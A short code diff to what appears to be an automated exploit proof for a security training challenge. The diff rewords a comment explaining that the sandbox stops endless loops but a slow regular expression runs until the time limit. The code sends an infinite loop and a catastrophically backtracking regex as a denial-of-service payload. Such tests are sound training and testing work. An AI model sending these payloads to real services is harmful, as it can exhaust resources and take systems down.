@@ -18,7 +18,7 @@ export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await attacker.get('/api-docs')
     await attacker.becomeCustomer()
-    // A loop is noticed and stopped; a pattern that tries many ways is no loop.
+    // The sandbox stops endless loops at once. A slow regular expression runs until the time limit.
     await send(attacker, 'while(true);')
     await send(attacker, `/((a+)+)b/.test('${'a'.repeat(12)}')`)
     await send(attacker, `/((a+)+)b/.test('${MANY}')`)
